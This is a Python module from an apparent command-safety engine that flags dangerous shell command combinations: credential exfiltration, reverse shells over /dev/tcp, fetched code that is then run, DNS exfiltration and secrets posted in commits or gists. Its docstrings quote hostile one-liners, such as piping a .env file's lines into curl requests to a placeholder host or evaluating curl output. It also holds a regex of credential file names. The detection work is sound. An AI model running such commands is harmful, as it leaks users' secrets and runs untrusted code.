"""Effects of the programs of a command taken together.

The kinds: `exfiltrate` (credentials that leave through a pipe, a substitution or an intermediate file; with the flag `bulk`
whole folders of the user or the system), `remote-shell` (a shell and a connection that feed each other), `run-text` with the
flags `fetched` and `later` (a file that was downloaded and then runs), `stage` (keys collected in one place), `scan`,
`method` (text in the form of a method call in place of a program), `kill-found` (processes that another program lists).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from itertools import pairwise
from posixpath import normpath

from toolguard_engine import lazy_re
from toolguard_engine.effects.commands import environment_dumps, loaded_files
from toolguard_engine.effects.commands.interpreters import DECODERS, FETCHERS, hidden_text, language
from toolguard_engine.effects.facts import key_owners, program_catalogue
from toolguard_engine.effects.facts.command import UNKNOWN, Effect, ProgramRun, Reading
from toolguard_engine.effects.facts.places import Where, is_device, place
from toolguard_engine.effects.manuals import manual_catalogue
from toolguard_engine.effects.programs import accepted_keys, instruction_files
from toolguard_engine.effects.programs.code_text import methods
from toolguard_engine.effects.programs.sent_data import data_flags
from toolguard_engine.effects.programs.unpacking import unpacks
from toolguard_engine.effects.programs.web_targets import host_flags, target
from toolguard_engine.effects.programs.wrappers import SHELLS

_SENDS = frozenset({"send", "copy-out", "http"})
_TAKES = frozenset({"read", "pack", "encrypt", "move", "link", "search"})
_CONNECTORS = program_catalogue.programs("connector")
_RUNNERS = program_catalogue.programs("fetched_file_runner")
_LIST_RUNNERS = program_catalogue.programs("list_runner")
_KEEPERS = program_catalogue.programs("output_keeper")
_RESOLVERS = program_catalogue.programs("name_resolver")
_ENCODERS = program_catalogue.programs("encoder")
_MAKERS = program_catalogue.programs("data_maker")
_UNPACKERS = manual_catalogue.doing("unpacks")
_PUBLISHERS = program_catalogue.programs("text_publisher")
_TALKERS = _CONNECTORS | {"ztcp"}
_CLONERS = program_catalogue.programs("cloner")
_SOCKET = ("/dev/tcp/", "/dev/udp/")
_COLLECTORS = program_catalogue.programs("found_file_collector")
_KEYS = lazy_re.compile(
    r"(?i)id_(?:rsa|dsa|ecdsa|ed25519)|\.pem$|\.ppk$|\.p12$|\.pfx$|\.kdbx?|\.keychain|\.ovpn$|\.aws|\.netrc|\.pgpass|\.kube|shadow"
    r"|wallet|login data|logins\.json|cookies|credential|\.npmrc|\.git-credentials|password|\.gnupg|secret"
)
MAX_SHOWN = 200
MAX_PARTNERS = 50
"""Programs that are compared with each other; comparing all would be quadratic."""
MANY_ENDS = 8


def effects(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterable[Effect]:
    """The effects of combinations. `found`: those of the programs themselves."""
    names: set[str] = set()
    sockets = given = False
    for run in reading.runs:
        names.add(run.name)
        given = given or bool(run.given)
        for each in run.redirects:
            sockets = sockets or each.target.startswith(_SOCKET)
    if found or sockets:
        yield from _exfiltrates(reading, found, where)
        yield from _mail_passed_on(reading, found)
    if sockets or not _TAKING_PART.isdisjoint(names):
        yield from _of_programs(reading, names, found, where, sockets=sockets)
    if given:
        yield from _foreign_keys(reading, found)
    if not _RESOLVERS.isdisjoint(names):
        yield from _exfiltrated_by_dns(reading, found)
    spelled = " ".join(names)
    if UNKNOWN in spelled:
        yield from _fetched_command(reading)
    if "." in spelled or "::" in spelled:
        yield from _method_calls(reading)


_TAKING_PART = frozenset({"git", "kill", "find"}).union(
    accepted_keys.PROGRAMS,
    _CLONERS,
    _MAKERS,
    FETCHERS,
    _UNPACKERS,
    instruction_files.PROGRAMS,
    _PUBLISHERS,
    _TALKERS,
    SHELLS,
)
"""Programs of which one takes part in each combination that `_of_programs` looks for."""


def _of_programs(
    reading: Reading, names: set[str], found: tuple[Effect, ...], where: Where, *, sockets: bool
) -> Iterator[Effect]:
    if not _MAKERS.isdisjoint(names):
        yield from _downloaded_then_run(reading, found)
    if len(reading.runs) > 1:
        if not _CLONERS.isdisjoint(names) or not _UNPACKERS.isdisjoint(names):
            yield from _cloned_then_run(reading)
        if not instruction_files.PROGRAMS.isdisjoint(names):
            yield from _fetched_instructions(reading)
        if not FETCHERS.isdisjoint(names):
            yield from _run_from_variable(reading, found)
        if "git" in names:
            yield from _pushed(reading)
            yield from _pushed_from_list(reading)
    if not _PUBLISHERS.isdisjoint(names):
        yield from _published(reading, where)
    if not accepted_keys.PROGRAMS.isdisjoint(names):
        yield from accepted_keys.effects(reading, where)
    if sockets or not _TALKERS.isdisjoint(names):
        yield from _shells(reading)
        yield from _scans(reading)
    if not SHELLS.isdisjoint(names):
        yield from _run_by_xargs(reading)
    if "kill" in names:
        yield from _killed(reading)
    if "find" in names:
        yield from _stages(reading)


# --- credentials that leave -----------------------------------------------------------------------------------------------


def _exfiltrates(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
    sends = [effect for effect in found if effect.kind in _SENDS and "local" not in effect.flags and effect.run is not None]
    sends = sends[:MAX_PARTNERS]
    redirected = [
        run for run in reading.runs if any(r.kind != "read" and r.target.startswith(_SOCKET) for r in run.redirects)
    ]
    handed = any(effect.run is not None and _line_wrapper(effect.run) for effect in found if effect.kind in _ASKS)
    if not sends and not redirected and not handed:
        return
    targets: set[str] = set()
    for send in sends:
        if send.run is not None and send.target not in targets and "mail" not in send.flags | {"-"}:
            flags = _exfiltration_flags(send, send.run, reading, found, where)
            if flags is not None:
                targets.add(send.target)
                yield Effect("exfiltrate", send.target, "remote", flags, send.run)
    for send in sends:
        if send.run is not None and "mail" in send.flags and "credentials" in send.flags:
            yield Effect("exfiltrate", send.target, "remote", frozenset({"mail"}), send.run)
    yield from _exfiltrated_by_xargs(reading, found, where)
    for run in redirected[:MAX_PARTNERS]:
        if "credentials" in _input_flags(run, reading, where) or any(
            e.run is run and e.place == "credentials" for e in found
        ):
            yield Effect("exfiltrate", run.redirects[-1].target, "remote", frozenset(), run)


_ASKS = _SENDS | {"fetch", "connect"}


def _line_wrapper(run: ProgramRun) -> str:
    """The wrapper that turns lines into words of this program."""
    return next((name for name in run.via if name in _LIST_RUNNERS), "") if run.via else ""


def _exfiltrated_by_xargs(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
    """`xargs -I{} curl "https://host/{}" < .env`: each line of a key file becomes an address or a word."""
    asking = [effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags]
    for effect in asking[:MAX_PARTNERS]:
        run = effect.run
        hander = _line_wrapper(run) if run is not None else ""
        if run is None or not hander or not any(UNKNOWN in word for word in run.argv):
            continue
        for wrapper in reading.runs:
            if wrapper.name == hander and (wrapper.redirects or wrapper.stdin is not None):
                feed = _input_flags(wrapper, reading, where)
                read = (r.target for r in wrapper.redirects if r.kind == "read")
                if "credentials" in feed or any(place(path, where, wrapper.cwd) == "credentials" for path in read):
                    yield Effect("exfiltrate", effect.target.replace(UNKNOWN, "?"), "remote", frozenset(), run)
                    break


def _exfiltration_flags(
    send: Effect, run: ProgramRun, reading: Reading, found: tuple[Effect, ...], where: Where
) -> frozenset[str] | None:
    """The flags of the `exfiltrate` effect that this sending amounts to, or None."""
    flags = send.flags | _input_flags(run, reading, where)
    if "credentials" in flags or (run.given and _given_secret(run, reading)):
        return frozenset()
    for taken in _secrets_before(run, reading, found):
        taker = taken.run
        if taker is None:
            continue
        same = taker.piped and (taker.pipeline == run.pipeline or (run.given and "$()" in taker.via))
        if same or _through_file(taker, run, reading):
            return frozenset() if taken.place == "credentials" else frozenset({"bulk"})
    if "secret" in flags and _is_for_host(_variables(run), _host(send.target)) and not _goes_elsewhere(run):
        flags -= {"secret"}
    return frozenset({"bulk", "secret"} & flags) or None


def _given_secret(run: ProgramRun, reading: Reading) -> bool:
    """Whether what it sends contains the output of a program that shows kept secrets; logging in with that is ordinary."""
    sources = {
        name for at, feed in run.given if not _LOGS_IN.match(run.argv[at]) for name in feed.programs
    }  # fmt: skip
    return bool(sources) and any(
        other.name in sources and environment_dumps.shows_secret(other) for other in reading.runs[:MAX_PARTNERS]
    )


_LOGS_IN = lazy_re.compile(
    r"(?i)(?:authorization|x-api-key|private-token|x-auth-token|x-vault-token):|(?:x-access-token|oauth2?|bearer)?:?\0\Z"
)


def _variables(run: ProgramRun) -> list[str]:
    """The variables that hold secrets among what a program is given."""
    feeds = [feed for _, feed in run.given] + ([run.stdin] if run.stdin is not None else [])
    found = [name[1:] for feed in feeds for name in feed.programs if name[:1] == "$" and name not in ("$secret", "$()")]
    return found[:MAX_PARTNERS]


def _is_for_host(variables: list[str], host: str) -> bool:
    return bool(variables) and all(key_owners.belongs(name, host) for name in variables)


def _goes_elsewhere(run: ProgramRun) -> bool:
    """Whether a request may reach another machine than the one it names: through a proxy, or by an address of its own."""
    if any(name.lower().endswith("_proxy") for name, _ in run.assigns):
        return True
    return any(_ROUTES.match(word) for word in run.argv[1:])


_ROUTES = lazy_re.compile(
    r"--(?:connect-to|resolve|proxy|preproxy|socks\w*|proxy\d[\w.]*|config|doh-url|unix-socket|abstract-unix-socket|interface)\b"
    r"|-[a-zA-Z]{0,8}[xK]|-e\Z|--execute"
)


def _host(address: str) -> str:
    """The host of what a request is shown as: `POST https://host/path`."""
    method, _, rest = address.partition(" ")
    return target(rest if method.isupper() and rest else address).host


_ADDRESS = lazy_re.compile(r"[a-z][a-z0-9+.-]{1,20}://[^\s\"'<>]{1,500}", re.IGNORECASE)


def _foreign_keys(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
    """A key of a known service in a request to another host, also in its headers, and in an address that is kept."""
    asked = {id(effect.run): effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags}
    for run in reading.runs:
        if not run.given or not (variables := _variables(run)):
            continue
        if effect := asked.get(id(run)):
            hosts = {_host(effect.target)} if not {"private", "-"} & effect.flags else set()
        else:
            hosts = {target(match[0]).host for word in run.argv[1:MAX_SHOWN] for match in _ADDRESS.finditer(word)}
        for host in sorted(hosts - {""}):
            if UNKNOWN not in host and any(key_owners.is_foreign(name, host) for name in variables):
                yield Effect("exfiltrate", host, "remote", frozenset({"secret"}), run)


def _secrets_before(run: ProgramRun, reading: Reading, found: tuple[Effect, ...]) -> list[Effect]:
    """Credentials read and whole folders packed before this program runs; credentials first."""
    earlier: set[int] = set()
    for other in reading.runs:
        if other is run:
            break
        earlier.add(id(other))
    taken = [effect for effect in found if effect.kind in _TAKES and id(effect.run) in earlier]
    secret = [effect for effect in taken if effect.place == "credentials"]
    whole = [effect for effect in taken if effect.place in ("root", "home", "system") and effect.kind == "pack"]
    return secret[:MAX_PARTNERS] + whole[:MAX_PARTNERS]


def _input_flags(run: ProgramRun, reading: Reading, where: Where) -> frozenset[str]:
    """Flags of the data that arrives through the pipe: from the source itself and from the programs before it."""
    flags = data_flags(run.stdin, where, run.cwd)
    if run.stdin is None:
        return flags
    for other in reading.runs:
        if other is run:
            break
        if (
            other.pipeline == run.pipeline
            and other.piped
            and (
                environment_dumps.shows(other)
                or environment_dumps.shows_secret(other)
                or any(
                    place(word, where, other.cwd) == "credentials"
                    for word in (*other.argv[1:16], *(r.target for r in other.redirects))
                    if "/" in word or word.startswith(("~", "."))
                )
            )
        ):
            flags |= {"credentials"}
    return flags


def _through_file(taker: ProgramRun, sender: ProgramRun, reading: Reading) -> bool:
    """Whether the sender sends a file that the taker wrote, that is, whether they share a word."""
    written = {word.removeprefix("@") for word in taker.argv[1:] if len(word) > 2 and not word.startswith("-")}  # noqa: PLR2004 - a name, not an option
    written.update(redirect.target for redirect in taker.redirects if redirect.kind in ("write", "append"))
    for other in reading.runs:
        if other.pipeline == taker.pipeline:
            written.update(r.target for r in other.redirects if r.kind in ("write", "append"))
    names = {word.rpartition("/")[2] for word in written} - {""}
    words = [*sender.argv[1:], *(r.target for r in sender.redirects), *((sender.stdin.files) if sender.stdin else ())]
    return any(_name(word) in names for word in words)


def _name(word: str) -> str:
    return word.rpartition("@")[2].partition(";")[0].rpartition("/")[2]


# --- downloaded and run -----------------------------------------------------------------------------------------------


def _downloaded_then_run(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
    got: dict[str, ProgramRun] = {}
    for effect in found:
        if effect.kind == "write" and "fetched" in effect.flags and effect.run is not None:
            got[effect.target.rpartition("/")[2]] = effect.run
        elif effect.kind == "copy-in" and effect.run is not None and not effect.flags & {"private", "local"}:
            got[effect.target.rpartition(":")[2].rpartition("/")[2]] = effect.run
    for run in reading.runs:
        if run.name in FETCHERS | DECODERS or (run.stdin is not None and run.stdin.programs):
            for redirect in run.redirects:
                if redirect.kind in ("write", "append") and redirect.fd in ("", "1") and not is_device(redirect.target):
                    maker = {run.name, *(run.stdin.programs if run.stdin else ())}
                    if maker & (FETCHERS | DECODERS):
                        got[redirect.target.rpartition("/")[2]] = run
    got.pop("", None)
    if not got:
        return
    seen: set[int] = set()
    for run in reading.runs:
        seen.add(id(run))
        name = _downloaded_file(run, got)
        if name and id(got[name]) in seen and got[name] is not run:
            flags = {"fetched", "later"} if got[name].name not in DECODERS else {"decoded", "later"}
            yield Effect("run-text", name, "", frozenset(flags), run)


def _fetched_instructions(reading: Reading) -> Iterator[Effect]:
    """`curl ... | make -f -`, `java -jar <(curl ...)`: what another machine sends is done by a program that is no shell."""
    for run in reading.runs:
        if run.given or run.stdin is not None:
            for at in instruction_files.sources(run):
                feed = run.stdin if at == instruction_files.STDIN else dict(run.given).get(at)
                if at == instruction_files.STDIN or not instruction_files.file_in(run.argv[at]).strip(UNKNOWN):
                    yield from hidden_text(run, feed, piped=False)


def _cloned_then_run(reading: Reading) -> Iterator[Effect]:
    """`git clone URL && cd x && ./install.sh`, `make -C x install`, `tar xf x.tgz && ./x/install.sh`: scripts that came with
    it, run unseen."""
    folders: set[str] = set()
    foreign: set[str] = set()
    unpacked = False
    for at, run in enumerate(reading.runs, 1):
        if run.name in _CLONERS:
            address, folder = _cloned(run)
            folders |= {folder} if address else set()
            foreign |= {folder} if address and _is_foreign(address) else set()
        elif run.name in _UNPACKERS and (run.stdin is not None or unpacks(run)):
            if run.stdin is not None and not FETCHERS.isdisjoint(run.stdin.programs):
                folders.update(_entered_after(reading, at, run))
            unpacked = True
        elif (folders and (script := _script_in(run, folders) or (foreign and _built_in(run, foreign)))) or (
            unpacked and (script := _unpacked_installer(run))
        ):
            yield Effect("run-text", script, "", frozenset({"fetched", "later"}), run)


def _cloned(run: ProgramRun) -> tuple[str, str]:
    """The address and the folder of `git clone`, `gh repo clone`, `hg clone` and `svn checkout`; empty for anything else."""
    at = next((at for at, word in enumerate(run.argv[1:4], 1) if word in ("clone", "checkout", "co")), 0)
    words = [word for word in run.argv[at + 1 :] if word[:1] != "-"] if at else []
    if not words:
        return "", ""
    far = "://" in words[0] or "@" in words[0] or run.name not in ("git", "hg", "svn")
    return words[0] if far else "", words[-1].rstrip("/").rpartition("/")[2].removesuffix(".git")


def _is_foreign(address: str) -> bool:
    """Whether a repository comes from neither the own network nor a host that everybody knows as one for code."""
    host = target(address).host if "://" in address else address.rpartition("@")[2].partition(":")[0]
    if "/" in host or not host or ("." not in host and "://" not in address):
        return False  # `gh repo clone owner/name`
    return not host_flags(host) & {"local", "private"} and not accepted_keys.is_code_host(host)


_BUILDS = frozenset(
    "install i ci run start test exec build develop bootstrap all compile up check bench package assemble sync add".split()  # noqa: SIM905
)


def _built_in(run: ProgramRun, folders: set[str]) -> str:
    """What builds, installs or starts the content of one of these folders."""
    inside = not folders.isdisjoint(run.cwd.split("/"))
    if not inside and folders.isdisjoint("/".join(run.argv[:_FEW]).split("/")):
        return ""
    if "/" in run.argv[0] and not run.argv[0].startswith(("/", "~")):
        return run.argv[0]
    if run.name in _PROJECT_BUILDERS:
        plain = run.name in _BUILD_TOOLS or not _BUILDS.isdisjoint(run.argv[1:_FEW]) or len(run.argv) == 1
        return " ".join(run.argv[:3]) if plain and run.argv[1:2] != ("--version",) else ""
    return ""


_FEW = 8
_BUILD_TOOLS = program_catalogue.programs("build_tool")
_PROJECT_BUILDERS = program_catalogue.programs("build_tool", "build_runner", "container", "project_installer")


_INSTALLER = lazy_re.compile(r"(?:[^/]{1,200}/){0,9}(?:install|setup|bootstrap)[\w-]{0,20}(?:\.(?:sh|bash|py|pl|rb|run))?")


def _unpacked_installer(run: ProgramRun) -> str:
    """An installer that runs, by its path, from the current folder or one below it."""
    word = run.argv[0] if "/" in run.argv[0] else ""
    if not word and (run.name in SHELLS or run.name in (".", "source") or run.name.startswith("python")):
        word = next((word for word in run.argv[1:3] if word[:1] != "-"), "")
    return word if _INSTALLER.fullmatch(word) and not word.startswith(("~", "..")) else ""


def _entered_after(reading: Reading, at: int, unpacked: ProgramRun) -> Iterator[str]:
    """The folders that the command enters, or runs programs of, from `at` on, after it has unpacked something there."""
    for run in reading.runs[at : at + MAX_PARTNERS]:
        if run.cwd and run.cwd != unpacked.cwd:
            yield run.cwd.rstrip("/").rpartition("/")[2]
        if "/" in run.argv[0] and not run.argv[0].startswith(("/", "~", "./")):
            yield run.argv[0].partition("/")[0]


_INSTALLS = lazy_re.compile(r"install|setup|bootstrap|\.(?:sh|bash|py|pl|rb)\Z")
"""Scripts that do more than build: `./gradlew build` and `./configure` of a clone are ordinary."""


def _script_in(run: ProgramRun, folders: set[str]) -> str:
    """What the run executes out of one of these folders: a script, or the targets of `make install`."""
    inside = not folders.isdisjoint(run.cwd.split("/"))
    if run.name in ("make", "gmake"):
        named = any(not folders.isdisjoint(word.split("/")) for word in run.argv[1:])
        return "Makefile" if "install" in run.argv[1:] and (inside or named) else ""
    candidates = [run.argv[0]] if "/" in run.argv[0] else []
    if run.name in SHELLS or run.name in (".", "source", "perl", "ruby", "node") or run.name.startswith("python"):
        candidates += [word for word in run.argv[1:3] if word[:1] != "-"]
    for word in candidates:
        if not _INSTALLS.search(word):
            continue
        if not folders.isdisjoint(word.split("/")[:-1]) or (inside and not word.startswith(("/", "~"))):
            return word
    return ""


def _downloaded_file(run: ProgramRun, got: dict[str, ProgramRun]) -> str:
    """The downloaded file that this run executes, directly or as the script of an interpreter."""
    own = run.argv[0].rpartition("/")[2]
    if own in got and "/" in run.argv[0]:
        return own
    if language(run.name) and (name := loaded_files.loaded(run, got)):
        return name
    for at in instruction_files.sources(run):
        name = instruction_files.file_in(run.argv[at]).rpartition("/")[2]
        if at != instruction_files.STDIN and name in got:
            return name
    if run.name in _RUNNERS or run.name.startswith(("python", "pypy")):
        if run.name == "chmod" and not any("x" in word or "7" in word or "5" in word for word in run.argv[1:3]):
            return ""
        for word in _run_words(run):
            name = word.rpartition("/")[2]
            if name in got:
                return name
        for redirect in run.redirects:
            if redirect.kind == "read" and redirect.target.rpartition("/")[2] in got and run.name in SHELLS:
                return redirect.target.rpartition("/")[2]
    return ""


def _run_words(run: ProgramRun) -> tuple[str, ...]:
    """The words of which one may be a file that runs: what follows the script of an interpreter is its data."""
    words = run.argv[1:8]
    if not language(run.name):
        return words
    script = next((at for at, word in enumerate(words) if word[:1] != "-" and "." in word.rpartition("/")[2]), len(words))
    return words[: script + 1]


# --- remote shells --------------------------------------------------------------------------------------------------------


def _scans(reading: Reading) -> Iterator[Effect]:
    """Many ports through the shell's own sockets, or one that a loop supplies."""
    ends = {redirect.target for run in reading.runs for redirect in run.redirects if redirect.target.startswith(_SOCKET)}
    if len(ends) >= MANY_ENDS or any(UNKNOWN in end or ".." in end for end in ends):
        run = next(run for run in reading.runs for redirect in run.redirects if redirect.target in ends)
        yield Effect("scan", min(ends), "remote", frozenset(), run)


def _shells(reading: Reading) -> Iterator[Effect]:
    socket = ""
    fed_by_shell = {run.pipeline for run in reading.runs if _bare_shell(run)}
    for run in reading.runs:
        if run.name == "ztcp":
            socket = " ".join(run.argv[1:3])
        for redirect in run.redirects:
            if redirect.target.startswith(_SOCKET):
                socket = redirect.target
                if run.name not in SHELLS and run.name != "exec":
                    host = socket.split("/")[3]
                    yield Effect("connect", socket, "remote", host_flags(host), run)
        if run.stdin is not None and (_bare_shell(run) or _evaluates(run)) and _from_socket(run, reading):
            yield Effect("remote-shell", " ".join(run.stdin.programs[:4]), "remote", frozenset(), run)
        elif run.name in _CONNECTORS and run.stdin is not None and SHELLS.intersection(run.stdin.programs):
            if run.pipeline in fed_by_shell:
                yield Effect("remote-shell", " ".join(run.argv[1:4]), "remote", frozenset(), run)
        elif socket and (run.name.startswith(UNKNOWN) or _bare_shell(run)):
            yield Effect("remote-shell", socket, "remote", frozenset(), run)


def _evaluates(run: ProgramRun) -> bool:
    return run.name == "eval" or run.name.startswith(UNKNOWN)


def _from_socket(run: ProgramRun, reading: Reading) -> bool:
    """Whether it gets its commands from a plain connection."""
    made_by = run.stdin.programs if run.stdin is not None else ()
    if "openssl" in made_by and not any("s_client" in other.argv[1:3] for other in reading.runs):
        return False
    return not _CONNECTORS.isdisjoint(made_by)


def _bare_shell(run: ProgramRun) -> bool:
    """A shell without a script, which runs its standard input."""
    return run.name in SHELLS and all(word.startswith("-") and "c" not in word for word in run.argv[1:])


def _fetched_command(reading: Reading) -> Iterator[Effect]:
    """`$(curl ...)`: what another machine sends is the command itself."""
    for run in reading.runs:
        if run.name.startswith(UNKNOWN):
            for at, feed in run.given:
                if at == 0:
                    yield from hidden_text(run, feed, piped=False)


def _run_from_variable(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
    """`x=$(curl ...); eval "$x"`: what was fetched is kept in a variable, or read line by line, and then runs."""
    piped = [run for run in reading.runs if run.name in FETCHERS and run.piped]
    fetchers = [run for run in piped[:MAX_PARTNERS] if _is_last(run, reading)]
    if not fetchers:
        return
    evaluated = any(effect.kind == "run-text" and "variable" in effect.flags for effect in found)
    if evaluated or any(run.name.startswith(UNKNOWN) and not run.given for run in reading.runs):
        yield Effect("run-text", fetchers[0].name, "", frozenset({"fetched"}), fetchers[0])


def _is_last(run: ProgramRun, reading: Reading) -> bool:
    """Whether its output is kept unchanged: no program of its pipeline except `read` takes it."""
    after = (
        other for other in reading.runs if other.pipeline == run.pipeline and other is not run and other.stdin is not None
    )
    return all(other.name in _KEEPERS or other.name.startswith(UNKNOWN) for other in after)


def _exfiltrated_by_dns(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
    """DNS names assembled from pieces, beside a program that makes such pieces out of a file."""
    secret = any(effect.place == "credentials" for effect in found)
    if not secret and not any(
        run.name in _ENCODERS or any(w.startswith("/etc/") for w in run.argv[1:]) for run in reading.runs
    ):
        return
    for run in reading.runs:
        if run.name in _RESOLVERS and any(UNKNOWN in word and "." in word.rpartition(UNKNOWN)[2] for word in run.argv[1:]):
            yield Effect(
                "exfiltrate", " ".join(run.argv[1:4]).replace(UNKNOWN, "?"), "remote", frozenset({"bulk", "dns"}), run
            )
            return


def _run_by_xargs(reading: Reading) -> Iterator[Effect]:
    """`curl ... | xargs -I{} sh -c {}`: the text that runs arrives through the wrapper's pipe."""
    for run in reading.runs:
        if run.name in SHELLS and run.via[-1:] in (("xargs",), ("parallel",)) and UNKNOWN in run.argv[2:]:
            for other in reading.runs:
                if other.name == run.via[-1] and other.stdin is not None and other.stdin.text is None:
                    kind = "fetched" if FETCHERS.intersection(other.stdin.programs) else "unknown"
                    yield Effect("run-text", " | ".join(other.stdin.programs[:6]), "", frozenset({kind}), run)
                    break


# --- mail to this machine that goes on ----------------------------------------------------------------------------------


def _mail_passed_on(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
    """Mail to a server for tests on this machine, whose port the same call forwards or which is only the default."""
    local = [effect for effect in found if {"mail", "local"} <= effect.flags and effect.run is not None]
    if not local:
        return
    runs = [*reading.runs, *(effect.run for effect in found if effect.run is not None)]
    forwarded = any(map(_forwards, runs))
    for effect in local:
        code = (*effect.run.argv[1:], (effect.run.stdin and effect.run.stdin.text) or "") if effect.run else ()
        if forwarded or ("code" in effect.flags and any(_DEFAULT_SERVER.search(text[:MAX_CODE]) for text in code)):
            yield Effect("send", effect.target, "remote", effect.flags - {"local"}, effect.run)
            return


MAX_CODE = 20_000
_FORWARDERS = frozenset({"socat", "stunnel", "stunnel4", "rinetd", "redir", "simpleproxy"})
_FORWARD = lazy_re.compile(r"-[A-Za-z0-9]{0,12}L|(?:-o)?[lL]ocal[fF]orward")
_DEFAULT_SERVER = lazy_re.compile(r"(?:\|\||\?\?)\s{0,3}[\"'`]?(?:localhost\b|127\.\d|\d{4,5}\b)")
"""The server or the port is another one if a variable says so."""


def _forwards(run: ProgramRun) -> bool:
    return run.name in _FORWARDERS or (run.name in ("ssh", "autossh") and any(map(_FORWARD.match, run.argv[1:24])))


# --- code pushed to a new address -----------------------------------------------------------------------------------------


def _pushed(reading: Reading) -> Iterator[Effect]:
    """`git remote add x https://... && git push x --all`: a push of everything to a new address, or of anything to one that
    takes the place of another."""
    added: dict[str, str] = {}
    replaced: dict[str, str] = {}
    for run in reading.runs:
        words = [word for word in run.argv[1:] if word[:1] != "-"] if run.name == "git" else []
        if words[:2] in (["remote", "add"], ["remote", "set-url"]) and len(words) > 3:  # noqa: PLR2004 - a name and an address
            (added if words[1] == "add" else replaced)[words[2]] = words[3]
        elif words[:1] == ["push"]:
            to = words[1] if len(words) > 1 else "origin"
            whole = not _WHOLE.isdisjoint(run.argv)
            new = added.get(to, "") if to != "origin" else ""
            address = replaced.get(to) or ((new or (to if "://" in to else "")) if whole else "")
            if address:
                yield Effect("send", address, "remote", frozenset({"file", "upload", *target(address).flags}), run)


def _pushed_from_list(reading: Reading) -> Iterator[Effect]:
    """`git for-each-ref --format=":%(refname)" | xargs git push origin`: a line may begin with what deletes a branch."""
    for at, run in enumerate(reading.runs):
        push = _push_at(run.argv) if run.name == "git" and (run.via or run.given) else 0
        if not push:
            continue
        before = reading.runs[max(at - MAX_PARTNERS, 0) : at]
        listed = any(UNKNOWN in word for word in run.argv[push + 1 :]) and _line_wrapper(run)
        makers = _list_makers(run, listed, before) if listed else []
        given = [name for place_, feed in run.given if run.argv[place_].startswith(UNKNOWN) for name in feed.programs]
        inner = [each for each in before if "$()" in each.via and each.name in given]
        if any(each.name not in _NAMING or _may_delete(each) or _shows_content(each) for each in makers) or any(
            map(_may_delete, inner)
        ):
            yield Effect("discard", "branches that another program lists", "remote", frozenset({"variable"}), run)


def _push_at(argv: tuple[str, ...]) -> int:
    """Where `push` stands if it is the verb of git, else 0."""
    at = 1
    while at < len(argv) and argv[at][:1] == "-":
        at += 2 if argv[at] in _GIT_VALUED else 1
    return at if argv[at : at + 1] == ("push",) else 0


def _list_makers(run: ProgramRun, lister: str, before: tuple[ProgramRun, ...]) -> list[ProgramRun]:
    """The programs whose output the wrapper of a push reads, also through a file."""
    wrapper = next((each for each in reversed(before) if each.name == lister), run)
    files = {redirect.target for redirect in wrapper.redirects if redirect.kind == "read"}
    files |= {word for option, word in pairwise(wrapper.argv) if option in ("-a", "--arg-file")}
    files |= {word.partition("=")[2] for word in wrapper.argv if word.startswith("--arg-file=")}
    files |= {word[2:] for word in wrapper.argv if word.startswith("-a") and len(word) > 2}  # noqa: PLR2004 - behind the option
    files = {normpath(file) for file in files}
    pipelines = {run.pipeline}
    for each in before if files else ():
        kept = {redirect.target for redirect in each.redirects if redirect.kind != "read"}
        if each.name == "tee":
            kept |= set(each.argv[1:4])
        if not files.isdisjoint(map(normpath, kept)):
            pipelines.add(each.pipeline)
    return [each for each in before if each.pipeline in pipelines and each.name not in run.via and each.name != "tee"]


def _may_delete(run: ProgramRun) -> bool:
    """Whether what it writes may begin with `:` or `+`."""
    if run.name == "git":
        words = [word for word in run.argv if word.startswith(("--format=", "--pretty="))]
        words += [word for option, word in pairwise(run.argv) if option in ("--format", "--pretty")]
    elif run.name in _REWRITING:
        words = [word for word in run.argv[1:] if not word.startswith("-F")]
    else:
        return False
    return _REFERENCE.search(_FIELD.sub("", " ".join(words)[:MAX_SPELLED])) is not None


def _shows_content(run: ProgramRun) -> bool:
    return run.name == "git" and _NAMING_VERBS.isdisjoint(run.argv[1:MAX_VERB])


MAX_SPELLED = 2_000
MAX_VERB = 8
_GIT_VALUED = frozenset({"-c", "-C", "--git-dir", "--work-tree", "--namespace", "--config-env", "--super-prefix"})
_FIELD = lazy_re.compile(r"%\([^()]{1,60}\)")
_REFERENCE = lazy_re.compile(r"[:+]|\\0{0,2}(?:72|53)|\\x(?:3[aA]|2[bB])")
_REWRITING = frozenset({"sed", "awk", "tr", "echo", "printf"})
_NAMING = _REWRITING | {"git", "grep", "egrep", "head", "tail", "sort", "uniq", "cut", "tac", "rev"}
_NAMING_VERBS = frozenset(
    {"branch", "tag", "for-each-ref", "rev-parse", "symbolic-ref", "describe", "ls-remote", "show-ref"}
)
_WHOLE = frozenset({"--all", "--mirror", "--branches"})
_TEXTS = frozenset({"commit", "tag", "notes", "issue", "pr", "mr", "gist", "release", "snippet", "comment", "api"})


def _published(reading: Reading, where: Where) -> Iterator[Effect]:
    """Secrets in the text of a commit, an issue or a comment: `git commit -m "$(env)"`, `echo $TOKEN | gh gist create -`."""
    for run in reading.runs:
        if run.name not in _PUBLISHERS or _TEXTS.isdisjoint(run.argv[1:4]) or not (run.given or run.stdin):
            continue
        feeds = [feed for _, feed in run.given] + ([run.stdin] if run.stdin is not None else [])
        flags = frozenset[str]().union(*(data_flags(feed, where, run.cwd) for feed in feeds[:MAX_PARTNERS]))
        if flags & {"credentials", "secret"}:
            yield Effect("exfiltrate", f"the text of {run.name} {run.argv[1]}", "remote", flags & {"secret"}, run)


# --- processes found and killed -------------------------------------------------------------------------------------------


def _killed(reading: Reading) -> Iterator[Effect]:
    """Ends processes that another program lists. Listing who listens on a port that the command names does not count."""
    for run in reading.runs:
        hander = _line_wrapper(run) if run.name == "kill" else ""
        if not hander:
            if run.name == "kill" and any(feed.programs in _LISTS_ALL for _, feed in run.given):
                yield Effect("kill-found", " ".join(run.argv[:4]).replace(UNKNOWN, "?"), "", frozenset(), run)
            continue
